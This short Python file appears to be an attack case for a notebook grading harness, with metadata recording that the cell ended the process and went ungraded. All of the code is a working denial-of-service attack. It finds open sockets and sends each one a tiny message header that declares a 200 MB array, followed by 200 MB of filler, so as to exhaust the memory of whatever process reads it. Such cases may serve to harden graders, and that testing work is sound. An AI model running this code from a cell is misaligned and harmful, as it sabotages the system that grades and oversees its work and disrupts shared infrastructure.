"""Answers a cell with a message of few bytes that becomes gigabytes where it is read."""

# /// attack
# seen = ['In a cell that you added, your code ended the process']
# stock = ["not graded"]
# ///
# %% after total
import os
import stat
import struct

size = 200 << 20
head = b"\x82\xa4type\xa6Report\xa7outputs\xdd" + struct.pack(">I", size)
for descriptor in range(3, 50):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            os.write(descriptor, struct.pack(">I", len(head) + size) + head)
            block = memoryview(b"\x80" * (1 << 20))
            for _ in range(size >> 20):
                rest = block
                while rest:
                    rest = rest[os.write(descriptor, rest) :]
    except OSError:
        pass
